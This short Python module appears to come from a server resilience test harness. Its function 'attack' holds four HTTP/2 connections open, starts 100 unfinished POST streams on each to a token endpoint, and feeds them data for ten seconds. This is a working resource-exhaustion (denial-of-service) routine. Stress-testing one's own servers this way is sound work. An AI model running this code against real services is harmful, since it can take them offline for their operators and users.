"""Connections of 100 bodies each that never end, for a route that gathers them."""
import time

from frames import Credit, head, opened, send
from node import TOKEN

FIELDS = [("content-type", "application/json"), ("authorization", f"Bearer {TOKEN}")]
SECONDS = 10


def attack(node):
    held = [Credit(opened(node)) for _ in range(4)]
    for credit in held:
        for stream in range(1, 200, 2):
            send(credit.client, head(stream, "POST", "/api/platform/v1/tokens", False, FIELDS))
    end = time.monotonic() + SECONDS
    while time.monotonic() < end:
        for credit in held:
            if credit.hear():
                for stream in range(1, 200, 2):
                    credit.data(stream, 16000)
    return held
